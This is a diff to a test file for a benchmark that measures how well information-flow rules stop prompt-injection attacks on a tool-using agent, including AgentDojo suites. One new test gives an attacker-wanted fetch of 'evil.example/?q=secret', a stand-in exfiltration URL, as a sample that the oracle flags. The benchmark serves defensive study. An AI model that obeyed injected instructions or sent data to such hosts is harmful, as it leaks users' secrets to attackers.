@@ -1,18 +1,19 @@
 """The bench of the flow of information on a shop of four tools; AgentDojo itself only where it is installed."""
 
 import importlib
+import re
 from collections.abc import Mapping, Sequence
 from pathlib import Path
 
 import pytest
 
 from bench.ifc import oracle
-from bench.ifc.labels import SUITES, THEIRS, Labelled, write
+from bench.ifc.labels import SUITES, THEIRS, Labelled, egress, write
 from bench.ifc.report import HEADS, PAGE, cells, merged, musts, page, wilson
 from bench.ifc.rules import RULES, Rule, house, plain
 from bench.ifc.speed import PRESENT, SENDS, Speed, check, large, texts_of, values
 from bench.ifc.tally import Tally, tally
-from bench.ifc.world import Given, Ledger, Place, Step, Trial
+from bench.ifc.world import Given, Ledger, Place, Step, Suite, Trial
 from bench.ifc.worst_case import Approver, Story, play
 from bridle.rules.strict_json import Json
 
@@ -101,6 +102,7 @@ async def story_of(name: str, task: str, attack: str, approver: Approver = Appro
         ("provenance + allowlist", 0, 4, 0, 4, 1, 1),
         ("+ directories and amount cap", 0, 4, 0, 4, 2, 0),
         ("the same, stopped by its first refusal", 0, 2, 0, 0, 2, 0),
+        ("directories, and a person decides on egress", 0, 4, 0, 4, 2, 0),
     ],
 )
 async def test_each_rule_stops_what_it_is_known_to_stop(
@@ -151,6 +153,19 @@ def test_a_destination_is_known_whole_or_not_at_all(to: str, strays: bool) -> No
         ledger.perform(step)
     assert oracle.strayed(trial, SHOP, ledger, approved=[]) == ([sent] if strays else [])
     assert oracle.strayed(trial, SHOP, ledger, approved=[sent]) == []
+    assert oracle.strayed(trial, SHOP, ledger, approved=[Step("mail.send", {**sent.args, "text": "the first"})]) == []
+    assert bool(oracle.strayed(trial, SHOP, ledger, approved=[Step("money.send", {"to": to})])) is strays
+
+
+@pytest.mark.parametrize(("url", "strays"), [("docs.example.com", False), ("evil.example/?q=secret", True)])
+def test_a_page_that_the_attacker_wants_fetched_counts_and_goes_somewhere(url: str, strays: bool) -> None:
+    label = egress(url={"from": ["user"], "hosts": ["docs.example.com"]})
+    labelled = Labelled(tools={"page.get": label}, destinations={"page.get": ("url",)})
+    fetched, ledger = Step("page.get", {"url": url}), Ledger(ShopPlace(""))
+    trial = Trial("shop", "task_0", "attack_0", PROMPT, (), "", attacker=(fetched,))
+    ledger.perform(fetched)
+    assert oracle.obeyed(trial, labelled, ledger) == [fetched]
+    assert bool(oracle.strayed(trial, labelled, ledger, approved=[])) is strays
 
 
 @pytest.mark.parametrize(
@@ -161,15 +176,27 @@ def test_an_interval_is_wilsons(count: int, of: int, low: float, high: float) ->
 
 
 @pytest.mark.parametrize("suite", SUITES)
-def test_every_write_names_what_steers_it_and_where_it_goes(suite: str) -> None:
+def test_every_write_and_egress_names_what_steers_it_and_where_it_goes(suite: str) -> None:
     labelled = SUITES[suite]
     for tool, label in labelled.tools.items():
         sinks = label.get("sinks", {})
         assert isinstance(sinks, dict)
-        assert bool(sinks) == (label["effect"] == "write"), tool
+        assert bool(sinks) == (label["effect"] != "read"), tool
         assert set(labelled.destinations.get(tool, ())) <= set(sinks)
         assert "dir:" not in str(plain(label))
-        assert "max" not in str(plain(label))
+        assert not {"max", "hosts"} & set(re.findall(r"\w+", str(plain(label))))
+
+
+@pytest.mark.parametrize("suite", SUITES)
+def test_a_directory_is_there_and_a_tool_behind_it_is_a_trusted_read(suite: str) -> None:
+    labelled = SUITES[suite]
+    named = set(re.findall(r"dir:(\w+)", str([label.get("sinks") for label in labelled.tools.values()])))
+    assert named == set(labelled.directories)
+    for name, directory in labelled.directories.items():
+        assert set(directory) in ({"values"}, {"tool"}), name
+        if "tool" in directory:
+            label = labelled.tools[str(directory["tool"])]
+            assert (label["effect"], label["source"]) == ("read", "trusted"), name
 
 
 def test_values_of_a_long_run_are_found_or_not_as_they_should_be() -> None:
@@ -183,7 +210,7 @@ def test_values_of_a_long_run_are_found_or_not_as_they_should_be() -> None:
 async def test_the_page_has_a_row_for_each_rule_and_says_what_does_not_hold() -> None:
     rows = [await row_of(each.name) for each in RULES]
     slow = Speed([1.0, 2.0], {"a value": [60.0, 70.0]}, 9.0)
-    where = {"date": "2026-11-20", "cores": "2", "python": "3.11", "versions": "none"}
+    where = {"date": "2026-11-20", "cores": "2", "python": "3.11", "versions": "none", "minutes": "1"}
     written = page(rows, slow, where)
     assert all(f"| {each.name} | " in written for each in RULES)
     assert len(cells(merged(rows[:1]))) == len(HEADS)
@@ -195,11 +222,36 @@ def test_the_page_in_the_documentation_is_the_one_that_the_bench_writes() -> Non
     written = (Path(__file__).resolve().parents[2] / "docs" / "injection.md").read_text()
     assert PAGE.partition("{")[0] in written
     assert PAGE.rpartition("}")[2] in written
-    assert len(written.splitlines()) <= 120
+    assert len(written.splitlines()) <= 150
 
 
-async def test_agentdojo_is_played_as_it_is() -> None:
+def dojo(name: str) -> Suite:
     pytest.importorskip("agentdojo", reason="AgentDojo is in the environment of `make bench-ifc` only")
-    suite = importlib.import_module("bench.ifc.dojo").load("banking")
-    row = await tally(suite, SUITES["banking"], rule("provenance"), suite.tasks[:2], suite.attacks[:2])
+    suite: Suite = importlib.import_module("bench.ifc.dojo").load(name)
+    return suite
+
+
+@pytest.mark.parametrize("name", SUITES)
+def test_every_tool_of_a_suite_has_labels_for_arguments_that_it_has(name: str) -> None:
+    suite, tools = dojo(name), SUITES[name].tools
+    assert set(tools) == set(suite.tools)
+    for tool, label in tools.items():
+        sinks, arguments = label.get("sinks", {}), suite.tools[tool]["properties"]
+        assert isinstance(sinks, dict)
+        assert isinstance(arguments, dict)
+        assert set(sinks) <= set(arguments), tool
+
+
+@pytest.mark.parametrize("name", ["banking", "travel"])
+async def test_agentdojo_is_played_as_it_is(name: str) -> None:
+    suite = dojo(name)
+    row = await tally(suite, SUITES[name], rule("provenance"), suite.tasks[:2], suite.attacks[:2])
     assert (row.useful, row.arms[Approver.IDEAL].obeyed) == (2, 0)
+
+
+def test_every_attack_of_a_held_out_suite_acts() -> None:
+    for name in ("slack", "travel"):
+        suite = dojo(name)
+        for attack in suite.attacks:
+            trial, _ = suite.open(suite.tasks[0], attack)
+            assert oracle.commands(trial, SUITES[name]), attack
